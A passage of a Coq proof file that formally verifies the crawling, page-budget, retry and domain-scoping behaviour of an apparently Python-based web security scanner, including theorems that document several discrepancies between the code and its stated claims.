  (forall link s, is_Some (rec_scan link (depth + 1) s)) ->
  Fuelled (process_response E cfg rec_scan url depth response s).
Proof.
  intros Hrec. unfold process_response.
  destruct (Detect.is_error_response response); [exact I|].
  apply fuelled_bind; [apply frame_run_analyzer|intros s1].
  apply fuelled_bind; [exact I|intros s2].
  apply fuelled_bind; [|intros s3].
  { unfold links_step. destruct (scan_links cfg); [|exact I].
    apply links_loop_fuelled, Hrec. }
  apply fuelled_bind; [exact I|intros s4].
  apply fuelled_bind; [apply frame_analyzers_step|intros s5]. exact I.
Qed.



End Rec.

(** [_scan_url] returns: the nesting never exceeds the levels between the
    current depth and [max_depth]. *)
Lemma scan_url_total (fuel : nat) (url : string) (depth : Z) (s : State) :
  (Z.to_nat (max_depth cfg + 1 - depth) < fuel)%nat ->
  is_Some (scan_url E cfg fuel url depth s).
Proof.
  revert url depth s. induction fuel as [|fuel IH]; intros url depth s Hfuel; [lia|].
  simpl.
  destruct (depth >? max_depth cfg) eqn:Hdepth; [eauto|].
  destruct (Z.of_nat (size (visited_urls s)) >=? max_pages cfg); [eauto|].
  destruct (bool_decide (normalize_url url ∈ visited_urls s)); [eauto|].
  destruct (make_request E cfg (normalize_url url) _) as [[[response|]|] s2]; simpl; eauto.
  apply catch_fuelled, process_response_fuelled.
  intros link s'. apply IH. lia.
Qed.

(** More fuel does not change a result. *)
Lemma links_loop_mono (rec1 rec2 : string -> Z -> State -> option State)
    (links : list string) (url : string) (depth : Z) (s : State) :
  (forall l d s0 s', rec1 l d s0 = Some s' -> rec2 l d s0 = Some s') ->
  Fuelled (links_loop rec1 links url depth s) ->
  links_loop rec2 links url depth s = links_loop rec1 links url depth s.
Proof.
  intros Hrec. revert s. induction links as [|link rest IH]; intros s; simpl; [reflexivity|].
  destruct (is_same_domain link url); [|apply IH].
  destruct (rec1 link (depth + 1) (push_link (mkLinkData url link) s)) as [s'|] eqn:H1;
    [|contradiction].
  rewrite (Hrec _ _ _ _ H1). apply IH.
Qed.

Lemma process_response_mono (rec1 rec2 : string -> Z -> State -> option State)
    (url : string) (depth : Z) (response : Response) (s : State) :
  (forall l d s0 s', rec1 l d s0 = Some s' -> rec2 l d s0 = Some s') ->
  Fuelled (process_response E cfg rec1 url depth response s) ->
  process_response E cfg rec2 url depth response s
  = process_response E cfg rec1 url depth response s.
Proof.
  intros Hrec. unfold process_response.
  destruct (Detect.is_error_response response); [reflexivity|].
  destruct (run_analyzer E cfg XssParams url response _) as [s1|s1|]; [|reflexivity..].
  cbn [bind]. unfold links_step. destruct (scan_links cfg); [|reflexivity].
  intros Hfuel.
  rewrite (links_loop_mono rec1 rec2); [reflexivity|exact Hrec|].
  destruct (links_loop rec1 _ url depth _); [exact I|exact I|contradiction].
Qed.

Lemma scan_url_fuel_mono (fuel : nat) (url : string) (depth : Z) (s s' : State) :
  scan_url E cfg fuel url depth s = Some s' ->
  scan_url E cfg (S fuel) url depth s = Some s'.
Proof.
  revert url depth s s'. induction fuel as [|fuel IH]; intros url depth s s'; [discriminate|].
  remember (S fuel) as f1 eqn:Hf1. rewrite Hf1 at 1.
  cbn [scan_url]. subst f1.
  destruct (depth >? max_depth cfg); [auto|].
  destruct (Z.of_nat (size (visited_urls s)) >=? max_pages cfg); [auto|].
  destruct (bool_decide (normalize_url url ∈ visited_urls s)); [auto|].
  destruct (make_request E cfg (normalize_url url) _) as [[[response|]|] s2]; auto.
  intros Hres.
  rewrite (process_response_mono (scan_url E cfg fuel) (scan_url E cfg (S fuel)));
    [exact Hres|exact IH|].
  destruct (process_response E cfg (scan_url E cfg fuel) _ depth response s2);
    [exact I|exact I|discriminate].
Qed.



End WithEnv.

End DepthFacts.

(** ** Whole scans *)

Module ScanFacts.
Import Scanner Inv FrameFacts CrawlFacts DepthFacts Utils.

Section WithEnv.
Variable E : Env.
Variable cfg : Config.

Lemma start_scan_total (start_url : string) (sid : option string) (uuid4 : string) (s : State) :
  is_Some (start_scan E cfg start_url sid uuid4 s).
Proof. unfold start_scan, enough_fuel. apply scan_url_total. lia. Qed.

(** The state the crawl of [start_scan] starts from. *)
Lemma before_crawl (start_url : string) (sid : option string) (uuid4 : string) (s : State) :
  let s0 := check_broken_access_control E cfg start_url (reset sid uuid4 s) in
  visited_urls s0 = visited_urls s /\
  Stats.scanned_urls (stats s0) = [] /\
  Stats.total_urls_scanned (stats s0) = 0 /\
  scanned_links s0 = [].
Proof.
  destruct (frame_check_broken_access_control E cfg start_url (reset sid uuid4 s))
    as (H1 & H2 & H3 & H4).
  simpl. rewrite H1, H2, H3, H4. repeat split.
Qed.

Section Labelled.
Variable LinkOk : string -> string -> Prop.
Variable B : string -> string.
Hypothesis extract_ok :
  forall html url x, x ∈ extract_links E html url -> LinkOk x url.
Hypothesis base_ok :
  forall link url,
    LinkOk link url -> is_same_domain link url = true -> B (normalize_url link) = B url.

(** What a whole scan leaves: the URLs it visited, each once and none of
    them visited before, and the links it recorded. *)
Lemma start_scan_visits (start_url : string) (sid : option string) (uuid4 : string)
    (s s' : State) :
  start_scan E cfg start_url sid uuid4 s = Some s' ->
  let new := Stats.scanned_urls (stats s') in
  Stats.total_urls_scanned (stats s') = Z.of_nat (length new) /\
  visited_urls s' = list_to_set new ∪ visited_urls s /\
  NoDup new /\
  (forall u, u ∈ new -> u ∉ visited_urls s) /\
  (new <> [] -> Z.of_nat (size (visited_urls s')) <= max_pages cfg) /\
  (forall u, u ∈ new -> B u = B (normalize_url start_url)) /\
  (forall l, l ∈ scanned_links s' ->
             B (source_url l) = B (normalize_url start_url)
             /\ LinkOk (target_url l) (source_url l)).
Proof.
  unfold start_scan. intros Hscan.
  apply (scan_url_grows E cfg LinkOk B extract_ok base_ok) in Hscan.
  destruct (before_crawl start_url sid uuid4 s) as (V & U & T & L).
  destruct Hscan as (new & newlinks & A1 & A2 & A3 & A4 & A5 & A6 & A7 & A8 & A9).
  rewrite U in A1. rewrite T in A2. rewrite V in A3, A5. rewrite L in A7.
  simpl in A1, A7. cbv zeta. rewrite A1, A7.
  repeat split; auto; try apply A9; auto.
Qed.

End Labelled.

(** The URLs a scan visits are distinct, and there are no more of them than
    the page budget allows. *)
Lemma start_scan_budget (start_url : string) (sid : option string) (uuid4 : string)
    (s s' : State) :
  start_scan E cfg start_url sid uuid4 s = Some s' ->
  NoDup (Stats.scanned_urls (stats s')) /\
  (forall u, u ∈ Stats.scanned_urls (stats s') -> u ∉ visited_urls s) /\
  (0 <= max_pages cfg -> Stats.total_urls_scanned (stats s') <= max_pages cfg).
Proof.
  intros Hscan.
  apply (start_scan_visits (fun _ _ => True) (fun _ => "")) in Hscan; auto.
  destruct Hscan as (T & V & N & F & Bd & _ & _).
  split; [exact N|]. split; [exact F|].
  intros Hpos. rewrite T.
  destruct (Stats.scanned_urls (stats s')) as [|u new] eqn:Hnew; [simpl; lia|].
  etransitivity; [|apply Bd; discriminate].
  rewrite <- (size_list_to_set (C := gset string)) by exact N.
  apply inj_le, subseteq_size. rewrite V. set_solver.
Qed.

(** A fetch that raises [RequestException] every time: the attempts and
    pauses of [_make_request], which then returns [None] and leaves the
    statistics alone. *)
Lemma make_request_loop_fails (url : string) (m k : nat) (s : State) :
  (forall tr, respond E tr (EvFetch url) = RequestException) ->
  Z.of_nat (k + m) = max_retries cfg ->
  make_request_loop E cfg (map Z.of_nat (seq k m)) url s
  = (Return None,
     mkState (stats s) (visited_urls s) (vulnerabilities s) (scanned_links s)
             (scanned_forms s) (scan_id s) (trace s ++ retry_events cfg url m)%list).
Proof.
  intros Hfail. revert k s. induction m as [|m IH]; intros k s Hk.
  - simpl. rewrite app_nil_r. destruct s; reflexivity.
  - cbn [seq map make_request_loop]. rewrite Hfail.
    destruct m as [|m'].
    + replace (Z.of_nat k =? max_retries cfg - 1) with true
        by (symmetry; apply Z.eqb_eq; lia).
      reflexivity.
    + replace (Z.of_nat k =? max_retries cfg - 1) with false
        by (symmetry; apply Z.eqb_neq; lia).
      rewrite IH by lia. cbn [retry_events]. simpl.
      rewrite <- !app_assoc. reflexivity.
Qed.

Lemma make_request_fails (url : string) (s : State) :
  (forall tr, respond E tr (EvFetch url) = RequestException) ->
  0 <= max_retries cfg ->
  make_request E cfg url s
  = (Return None,
     mkState (stats s) (visited_urls s) (vulnerabilities s) (scanned_links s)
             (scanned_forms s) (scan_id s)
             (trace s ++ retry_events cfg url (Z.to_nat (max_retries cfg)))%list).
Proof.
  intros Hfail Hpos. unfold make_request, range.
  apply make_request_loop_fails; [exact Hfail|lia].
Qed.

(** A URL whose every attempt fails is marked visited and counted as
    scanned; the error counters stay as they were. *)
Lemma failed_fetch_not_counted (fuel : nat) (url : string) (depth : Z) (s : State) :
  (forall tr, respond E tr (EvFetch (normalize_url url)) = RequestException) ->
  0 <= max_retries cfg ->
  depth <= max_depth cfg ->
  Z.of_nat (size (visited_urls s)) < max_pages cfg ->
  normalize_url url ∉ visited_urls s ->
  exists s',
    scan_url E cfg (S fuel) url depth s = Some s' /\
    stats s' = Stats.add_url (normalize_url url) (stats s) /\
    trace s' = (trace s ++ retry_events cfg (normalize_url url)
                                        (Z.to_nat (max_retries cfg)))%list.
Proof.
  intros Hfail Hpos Hdepth Hroom Hnew. simpl.
  destruct (depth >? max_depth cfg) eqn:Hd; [lia|].
  destruct (Z.of_nat (size (visited_urls s)) >=? max_pages cfg) eqn:Hp; [lia|].
  rewrite bool_decide_eq_false_2 by exact Hnew.
  rewrite make_request_fails by assumption.
  eexists. split; [reflexivity|]. split; reflexivity.
Qed.

End WithEnv.

End ScanFacts.

(** ** Depth and page bounds *)




Example demo_scan_urls :
  Demo.scanned (Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-1" Scanner.init)
  = ["http://a.com/"; "http://a.com/x"].
Proof. vm_compute. reflexivity. Qed.

Example demo_scan_one_page :
  Demo.scanned (Scanner.start_scan Demo.env (Demo.with_limits 3 1 Demo.config)
                                   "http://a.com" None "id-1" Scanner.init)
  = ["http://a.com/"].
Proof. vm_compute. reflexivity. Qed.

(** ** Failed requests *)

(** C7 (the code against the claim): [http://down.example/] refuses every
    connection.  The request is tried [max_retries = 3] times with a pause
    of [scan_delay] between the attempts and the scan goes on to return,
    but no error is counted: [total_errors] stays 0 and [errors_by_type]
    stays empty, while a 503 answer and an exception of another kind are
    both counted. *)
Theorem failed_fetch_leaves_no_error :
  Demo.errors_of (Scanner.start_scan Demo.env Demo.config "http://down.example/"
                                     None "id-1" Scanner.init)
  = Some ([EvFetch "http://down.example/"; EvSleep 1%float;
           EvFetch "http://down.example/"; EvSleep 1%float;
           EvFetch "http://down.example/"],
          0, [], ["http://down.example/"]) /\
  Demo.errors_of (Scanner.start_scan Demo.env Demo.config "http://a.com/broken"
                                     None "id-1" Scanner.init)
  = Some ([EvFetch "http://a.com/broken"], 1, [("server_error", 1)],
          ["http://a.com/broken"]) /\
  Demo.errors_of (Scanner.start_scan Demo.env Demo.config "http://a.com/crash"
                                     None "id-1" Scanner.init)
  = Some ([EvFetch "http://a.com/crash"], 1, [("request_error", 1)],
          ["http://a.com/crash"]).
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** State across scans *)

(** C9 (the code against the claim): [start_scan] gives the scanner fresh
    statistics and empty lists of findings, links and forms, but leaves
    [visited_urls] as it is.  A second scan of the same site on the same
    scanner therefore starts with the pages of the first scan in its
    visited set, and visits nothing. *)
Theorem visited_urls_survive_start_scan :
  (forall sid uuid4 s,
      let s0 := Scanner.reset sid uuid4 s in
      Scanner.stats s0 = Stats.init /\ Scanner.vulnerabilities s0 = [] /\
      Scanner.scanned_links s0 = [] /\ Scanner.scanned_forms s0 = [] /\
      Scanner.visited_urls s0 = Scanner.visited_urls s) /\
  exists s1 s2,
    Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-1" Scanner.init = Some s1 /\
    Stats.scanned_urls (Scanner.stats s1) = ["http://a.com/"; "http://a.com/x"] /\
    elements (Scanner.visited_urls (Scanner.reset None "id-2" s1))
    ≡ₚ ["http://a.com/"; "http://a.com/x"] /\
    Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-2" s1 = Some s2 /\
    Stats.scanned_urls (Scanner.stats s2) = [] /\
    Stats.total_urls_scanned (Scanner.stats s2) = 0.
Proof.
  split; [intros; repeat split|].
  destruct (Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-1" Scanner.init)
    as [s1|] eqn:H1; [|vm_compute in H1; discriminate].
  destruct (Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-2" s1)
    as [s2|] eqn:H2.
  2: { destruct (ScanFacts.start_scan_total Demo.env Demo.config "http://a.com" None "id-2" s1)
         as [x Hx]. congruence. }
  exists s1, s2.
  vm_compute in H1. injection H1 as <-.
  vm_compute in H2. injection H2 as <-.
  repeat split; try reflexivity.
  vm_compute. apply Permutation_refl || (apply perm_swap).
Qed.

(** ** Parsing what [urlunparse] built *)

Module UrlFacts.
Import Urllib Utils.

Lemma append_nil (b : string) : "" ++ b = b.
Proof. reflexivity. Qed.

Lemma append_cons (x : ascii) (a b : string) : String x a ++ b = String x (a ++ b).
Proof. reflexivity. Qed.

Ltac str := rewrite ?append_nil, ?append_cons; simpl.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; str; [reflexivity|]. rewrite IH. reflexivity. Qed.

Lemma all_chars_app (p : ascii -> bool) (a b : string) :
  Py.all_chars p (a ++ b) = Py.all_chars p a && Py.all_chars p b.
Proof.
  induction a as [|x a IH]; str; [reflexivity|].
  rewrite IH, andb_assoc. reflexivity.
Qed.

Lemma split_first_spec (c : ascii) (s a b : string) :
  Py.split_first c s = Some (a, b) ->
  s = a ++ String c b /\ Py.has_char c a = false.
Proof.
  revert a b. induction s as [|d s IH]; intros a b; simpl; [discriminate|].
  destruct (Ascii.eqb c d) eqn:Hcd.
  - intros [= <- <-]. apply Ascii.eqb_eq in Hcd as ->. split; reflexivity.
  - destruct (Py.split_first c s) as [[a' b']|]; [|discriminate].
    intros [= <- <-]. destruct (IH a' b' eq_refl) as [-> Hno].
    str. rewrite Hcd, Hno. split; reflexivity.
Qed.

Lemma split_first_app (c : ascii) (a b : string) :
  Py.has_char c a = false -> Py.split_first c (a ++ String c b) = Some (a, b).
Proof.
  induction a as [|d a IH]; str.
  - rewrite Ascii.eqb_refl. reflexivity.
  - intros H. apply orb_false_iff in H as [Hcd Hno].
    rewrite Hcd, (IH Hno). reflexivity.
Qed.

Lemma break_spec (p : ascii -> bool) (s a b : string) :
  Py.break p s = (a, b) ->
  s = a ++ b /\ Py.not_in p a = true.
Proof.
  revert a b. induction s as [|d s IH]; intros a b; simpl.
  - intros [= <- <-]. split; reflexivity.
  - destruct (p d) eqn:Hp.
    + intros [= <- <-]. split; reflexivity.
    + destruct (Py.break p s) as [a' b']. intros [= <- <-].
      destruct (IH a' b' eq_refl) as [-> Hno]. unfold Py.not_in in *. str.
      rewrite Hp, Hno. split; reflexivity.
Qed.

Lemma break_app (p : ascii -> bool) (a : string) (d : ascii) (b : string) :
  Py.not_in p a = true -> p d = true -> Py.break p (a ++ String d b) = (a, String d b).
Proof.
  unfold Py.not_in. induction a as [|x a IH]; str; intros Ha Hd.
  - rewrite Hd. reflexivity.
  - apply andb_prop in Ha as [Hx Ha]. apply negb_true_iff in Hx.
    rewrite Hx, (IH Ha Hd). reflexivity.
Qed.

Lemma remove_chars_app (p : ascii -> bool) (a b : string) :
  Py.remove_chars p (a ++ b) = Py.remove_chars p a ++ Py.remove_chars p b.
Proof.
  induction a as [|x a IH]; str; [reflexivity|].
  destruct (p x); str; rewrite IH; reflexivity.
Qed.

Lemma remove_chars_clean (p : ascii -> bool) (s : string) :
  Py.not_in p s = true -> Py.remove_chars p s = s.
Proof.
  unfold Py.not_in. induction s as [|x s IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Hx Hs]. apply negb_true_iff in Hx.
  rewrite Hx, (IH Hs). reflexivity.
Qed.

Lemma remove_chars_not_in (p : ascii -> bool) (s : string) :
  Py.not_in p (Py.remove_chars p s) = true.
Proof.
  unfold Py.not_in. induction s as [|x s IH]; simpl; [reflexivity|].
  destruct (p x) eqn:Hx; simpl; [exact IH|]. rewrite Hx, IH. reflexivity.
Qed.

(** Facts about single characters, checked on all 256 of them. *)
Ltac all_ascii c :=
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; try reflexivity; try discriminate;
  try (intros; discriminate); try (intros; reflexivity).

Lemma scheme_char_not_colon (c : ascii) : scheme_char c = true -> Ascii.eqb ":" c = false.
Proof. all_ascii c. Qed.

Lemma scheme_char_safe (c : ascii) : scheme_char c = true -> is_unsafe c = false.
Proof. all_ascii c. Qed.

Lemma alpha_not_space (c : ascii) : is_alpha c = true -> is_c0_or_space c = false.
Proof. all_ascii c. Qed.

Lemma lower_char_alpha (c : ascii) : is_alpha c = true -> is_alpha (Py.lower_char c) = true.
Proof. all_ascii c. Qed.

Lemma lower_char_scheme (c : ascii) : scheme_char c = true -> scheme_char (Py.lower_char c) = true.
Proof. all_ascii c. Qed.

Lemma lower_char_idem (c : ascii) : Py.lower_char (Py.lower_char c) = Py.lower_char c.
Proof. all_ascii c. Qed.


Lemma all_chars_impl (p q : ascii -> bool) (s : string) :
  (forall c, p c = true -> q c = true) -> Py.all_chars p s = true -> Py.all_chars q s = true.
Proof.
  intros Hpq. induction s as [|x s IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Hx Hs]. rewrite (Hpq x Hx), (IH Hs). reflexivity.
Qed.

Lemma has_char_all (c : ascii) (p : ascii -> bool) (s : string) :
  (forall d, p d = true -> Ascii.eqb c d = false) ->
  Py.all_chars p s = true -> Py.has_char c s = false.
Proof.
  intros Hp. induction s as [|x s IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Hx Hs]. rewrite (Hp x Hx), (IH Hs). reflexivity.
Qed.

Lemma lower_all_scheme (s : string) :
  Py.all_chars scheme_char s = true -> Py.all_chars scheme_char (Py.lower s) = true.
Proof.
  induction s as [|x s IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Hx Hs].
  rewrite (lower_char_scheme x Hx), (IH Hs). reflexivity.
Qed.

Lemma lower_idem (s : string) : Py.lower (Py.lower s) = Py.lower s.
Proof.
  induction s as [|x s IH]; simpl; [reflexivity|]. rewrite lower_char_idem, IH. reflexivity.
Qed.

Lemma split_scheme_good (url sch rest : string) :
  Py.not_in is_unsafe url = true ->
  split_scheme url = (sch, rest) ->
  (sch = "" \/ good_scheme sch) /\ Py.not_in is_unsafe rest = true.
Proof.
  intros Hsafe. unfold split_scheme.
  destruct (Py.split_first ":" url) as [[pre post]|] eqn:Hsplit.
  2: { intros [= <- <-]. auto. }
  destruct pre as [|c0 pre']; [intros [= <- <-]; auto|].
  destruct (is_alpha c0 && Py.all_chars scheme_char (String c0 pre')) eqn:Hok;
    [|intros [= <- <-]; auto].
  intros [= <- <-]. apply andb_prop in Hok as [Hc0 Hall].
  apply split_first_spec in Hsplit as [-> _].
  unfold Py.not_in in Hsafe. rewrite all_chars_app in Hsafe.
  apply andb_prop in Hsafe as [_ Hpost]. simpl in Hpost.
  split; [right|exact Hpost].
  simpl. split; [apply lower_char_alpha, Hc0|]. split.
  - apply (lower_all_scheme (String c0 pre')), Hall.
  - apply (lower_idem (String c0 pre')).
Qed.

Lemma split_netloc_good (url net rest : string) :
  Py.not_in is_unsafe url = true ->
  split_netloc url = (net, rest) ->
  good_netloc net.
Proof.
  intros Hsafe. unfold split_netloc.
  assert (Hnil : good_netloc "") by (split; reflexivity).
  destruct url as [|a [|b r]]; try (intros [= <- <-]; exact Hnil).
  { destruct a as [[] [] [] [] [] [] [] []]; intros [= <- <-]; exact Hnil. }
  destruct a as [[] [] [] [] [] [] [] []]; try (intros [= <- <-]; exact Hnil).
  destruct b as [[] [] [] [] [] [] [] []]; try (intros [= <- <-]; exact Hnil).
  intros Hbreak. apply break_spec in Hbreak as [-> Hdelim].
  split; [exact Hdelim|].
  unfold Py.not_in in Hsafe. simpl in Hsafe. rewrite all_chars_app in Hsafe.
  apply andb_prop in Hsafe as [Hnet _]. exact Hnet.
Qed.


Lemma urlsplit_good (y : string) :
  (s_scheme (urlsplit y) = "" \/ good_scheme (s_scheme (urlsplit y)))
  /\ good_netloc (s_netloc (urlsplit y)).
Proof.
  unfold urlsplit.
  pose proof (remove_chars_not_in is_unsafe (Py.lstrip is_c0_or_space y)) as Hsafe.
  destruct (split_scheme _) as [sch r1] eqn:Hs.
  destruct (split_scheme_good _ _ _ Hsafe Hs) as [Hsch Hr1].
  destruct (split_netloc r1) as [net r2] eqn:Hn.
  pose proof (split_netloc_good _ _ _ Hr1 Hn) as Hnet.
  destruct (split_on "#" r2) as [r3 frag]. destruct (split_on "?" r3) as [r4 qry].
  simpl. split; assumption.
Qed.

Lemma urlparse_scheme (y : string) : scheme (urlparse y) = s_scheme (urlsplit y).
Proof.
  unfold urlparse.
  destruct (Py.str_in _ uses_params && Py.has_char ";" _); [|reflexivity].
  destruct (splitparams _); reflexivity.
Qed.

Lemma urlparse_netloc (y : string) : netloc (urlparse y) = s_netloc (urlsplit y).
Proof.
  unfold urlparse.
  destruct (Py.str_in _ uses_params && Py.has_char ";" _); [|reflexivity].
  destruct (splitparams _); reflexivity.
Qed.

(** A URL put together from a scheme, a network location and a path that
    starts with a slash splits into that scheme and that location again. *)
Lemma urlsplit_built (sch net t : string) :
  good_scheme sch -> good_netloc net ->
  let r := urlsplit (sch ++ String ":" (String "/" (String "/" (net ++ String "/" t)))) in
  s_scheme r = sch /\ s_netloc r = net.
Proof.
  intros Hsch [Hdelim Hsafe]. destruct sch as [|c0 sch']; [contradiction|].
  destruct Hsch as (Hc0 & Hall & Hlow).
  cbv zeta. unfold urlsplit. rewrite append_cons.
  cbn [Py.lstrip]. rewrite (alpha_not_space c0 Hc0).
  rewrite <- append_cons.
  rewrite remove_chars_app.
  rewrite (remove_chars_clean is_unsafe (String c0 sch'))
    by (apply (all_chars_impl scheme_char); [intros c Hc; rewrite (scheme_char_safe c Hc); reflexivity|exact Hall]).
  change (Py.remove_chars is_unsafe (String ":" (String "/" (String "/" (net ++ String "/" t)))))
    with (String ":" (String "/" (String "/" (Py.remove_chars is_unsafe (net ++ String "/" t))))).
  rewrite remove_chars_app, (remove_chars_clean is_unsafe net Hsafe).
  change (Py.remove_chars is_unsafe (String "/" t))
    with (String "/" (Py.remove_chars is_unsafe t)).
  unfold split_scheme.
  rewrite split_first_app by (apply (has_char_all ":" scheme_char); [apply scheme_char_not_colon|exact Hall]).
  rewrite Hc0, Hall, Hlow. cbn [andb].
  cbn [split_netloc]. rewrite (break_app is_netloc_delim net "/" _ Hdelim eq_refl).
  destruct (split_on "#" _) as [r3 frag]. destruct (split_on "?" r3) as [r4 qry].
  split; reflexivity.
Qed.

Lemma normalize_path_nonempty (p : string) : normalize_path p <> "".
Proof.
  unfold normalize_path.
  destruct p as [|a [|b r]]; cbn [Py.truthy].
  - vm_compute. discriminate.
  - destruct (Py.endswith _ _); cbn; discriminate.
  - destruct (Py.endswith _ _ && _); cbn; discriminate.
Qed.

(** A path that does not end in a slash is left as it is, so a second pass
    changes nothing as soon as the first one ends without a slash. *)
Lemma normalize_path_fixed (q : string) :
  q <> "" -> Py.endswith q "/" = false -> normalize_path q = q.
Proof.
  intros Hq Hend. unfold normalize_path.
  destruct q as [|c q']; [congruence|]. cbn [Py.truthy]. rewrite Hend. reflexivity.
Qed.

Lemma leading_slash (u : string) :
  u <> "" ->
  exists t,
    (if Py.truthy u && negb (Py.startswith u "/") then "/" ++ u else u) = String "/" t.
Proof.
  destruct u as [|c u']; [congruence|]. intros _.
  unfold Py.startswith. cbn [Py.truthy andb String.prefix].
  destruct (ascii_dec "/" c) as [<-|Hne].
  - destruct u'; cbn; eauto.
  - cbn. eauto.
Qed.

Lemma urlunparse_shape (sch net np prm qry : string) :
  sch <> "" -> net <> "" -> np <> "" ->
  exists t,
    urlunparse (mkParse sch net np prm qry "")
    = sch ++ String ":" (String "/" (String "/" (net ++ String "/" t))).
Proof.
  intros Hsch Hnet Hnp. unfold urlunparse, urlunsplit. cbn [scheme netloc path params query fragment
    s_scheme s_netloc s_path s_query s_fragment].
  set (u := if Py.truthy prm then np ++ ";" ++ prm else np).
  assert (Hu : u <> "").
  { unfold u. destruct (Py.truthy prm); [|exact Hnp].
    destruct np; [congruence|]. rewrite append_cons. discriminate. }
  destruct (leading_slash u Hu) as [t Ht].
  destruct net as [|n0 net']; [congruence|]. destruct sch as [|c0 sch']; [congruence|].
  cbn [Py.truthy orb]. rewrite Ht.
  destruct qry as [|q0 qry']; cbn [Py.truthy].
  - exists t. reflexivity.
  - exists (t ++ "?" ++ String q0 qry').
    repeat first [rewrite append_assoc | rewrite append_cons | rewrite append_nil].
    reflexivity.
Qed.

(** Normalising a URL that has a scheme and a network location keeps
    both. *)
Lemma base_normalize (y : string) :
  is_valid_url y = true -> get_base_url (normalize_url y) = get_base_url y.
Proof.
  unfold is_valid_url, get_base_url. intros Hvalid.
  apply andb_prop in Hvalid as [Hsch Hnet].
  destruct (urlsplit_good y) as [Hgs Hgn].
  rewrite <- urlparse_scheme in Hgs. rewrite <- urlparse_netloc in Hgn.
  destruct Hgs as [Hempty|Hgs]; [rewrite Hempty in Hsch; discriminate|].
  unfold normalize_url.
  remember (scheme (urlparse y)) as sch eqn:Esch.
  remember (netloc (urlparse y)) as net eqn:Enet.
  destruct (urlunparse_shape sch net
              (normalize_path (path (urlparse y))) (params (urlparse y)) (query (urlparse y)))
    as [t Ht].
  - intros H. rewrite H in Hsch. discriminate.
  - intros H. rewrite H in Hnet. discriminate.
  - apply normalize_path_nonempty.
  - rewrite Ht.
    destruct (urlsplit_built sch net t Hgs Hgn) as [H1 H2].
    rewrite urlparse_scheme, urlparse_netloc, H1, H2. reflexivity.
Qed.

End UrlFacts.

(** ** Domain scoping *)

Module ScopeFacts.
Import Scanner Inv Utils.

Lemma same_domain_base (u v : string) :
  is_same_domain u v = true <-> get_base_url u = get_base_url v.
Proof. unfold is_same_domain. apply String.eqb_eq. Qed.

Lemma collect_links_in_scope (E : Env) (tags : list LinkTag) (base_url x : string) :
  x ∈ collect_links E tags base_url -> InScope x base_url.
Proof.
  induction tags as [|tag rest IH]; simpl; [intros H; inversion H|].
  destruct (href_or_src tag) as [href|]; [|exact IH].
  destruct (Py.truthy href); [|exact IH].
  destruct (is_valid_url _ && is_same_domain _ base_url) eqn:Hok; [|exact IH].
  intros Hin. apply elem_of_cons in Hin as [->|Hin]; [|auto].
  apply andb_prop in Hok. exact Hok.
Qed.

Lemma extract_links_in_scope (E : Env) (html base_url x : string) :
  (forall l y, y ∈ list_of_set E l -> y ∈ l) ->
  x ∈ extract_links E html base_url -> InScope x base_url.
Proof.
  intros Hset Hin. unfold extract_links in Hin.
  eapply collect_links_in_scope, Hset, Hin.
Qed.

Lemma in_scope_base (link url : string) :
  InScope link url -> is_same_domain link url = true ->
  get_base_url (normalize_url link) = get_base_url url.
Proof.
  intros [Hvalid Hsame] _. rewrite (UrlFacts.base_normalize link Hvalid).
  apply same_domain_base, Hsame.
Qed.

End ScopeFacts.

(** C4 (the claim fails): the home page of the demo site links to
    [http://b.com/], on another registrable domain.  [extract_links] drops
    the link, so it is not recorded in [scanned_links] (nor visited); and
    the test compares [scheme://netloc] as text, so [www.a.com] is out of
    the scope of [a.com] although both have the registrable domain
    [a.com]. *)
Lemma external_link_not_recorded :
  In (Some "http://b.com/") (map t_href (find_link_tags Demo.env Demo.home_html)) /\
  (exists s',
      Scanner.start_scan Demo.env Demo.config "http://a.com/" None "id-1" Scanner.init
      = Some s' /\
      Stats.scanned_urls (Scanner.stats s') = ["http://a.com/"; "http://a.com/x"] /\
      ~ In "http://b.com/" (map Scanner.target_url (Scanner.scanned_links s'))) /\
  Utils.is_same_domain "http://www.a.com/" "http://a.com/" = false.
Proof.
  split; [vm_compute; tauto|]. split; [|reflexivity].
  eexists. split; [vm_compute; reflexivity|]. split; [reflexivity|].
  vm_compute. intros H. repeat (destruct H as [H|H]; [discriminate H|]). exact H.
Qed.

(** C4 (as amended): the scope test is equality of [scheme://netloc]
    ([get_base_url]), not a comparison of registrable domains.  In a scan,
    every link recorded in [scanned_links] has the [scheme://netloc] of the
    page it was found on, which is that of the normalized seed, and so has
    every URL in [scanned_urls]: a link to another host is neither recorded,
    nor enqueued, nor visited. *)
Theorem links_stay_in_scope (E : Env) (cfg : Scanner.Config) (seed : string)
    (sid : option string) (uuid4 : string) (s s' : Scanner.State) :
  (forall l x, x ∈ list_of_set E l -> x ∈ l) ->
  Scanner.start_scan E cfg seed sid uuid4 s = Some s' ->
  (forall u v, Utils.is_same_domain u v = true <-> Utils.get_base_url u = Utils.get_base_url v) /\
  (forall l, l ∈ Scanner.scanned_links s' ->
             Utils.get_base_url (Scanner.target_url l)
             = Utils.get_base_url (Utils.normalize_url seed) /\
             Utils.get_base_url (Scanner.source_url l)
             = Utils.get_base_url (Utils.normalize_url seed)) /\
  (forall u, u ∈ Stats.scanned_urls (Scanner.stats s') ->
             Utils.get_base_url u = Utils.get_base_url (Utils.normalize_url seed)).
Proof.
  intros Hset Hscan.
  split; [apply ScopeFacts.same_domain_base|].
  apply (ScanFacts.start_scan_visits E cfg Inv.InScope Utils.get_base_url) in Hscan.
  - destruct Hscan as (_ & _ & _ & _ & _ & Hurls & Hlinks). split; [|exact Hurls].
    intros l Hl. destruct (Hlinks l Hl) as [Hsrc [_ Hsame]].
    apply ScopeFacts.same_domain_base in Hsame. split; congruence.
  - intros html url x. apply ScopeFacts.extract_links_in_scope, Hset.
  - apply ScopeFacts.in_scope_base.
Qed.

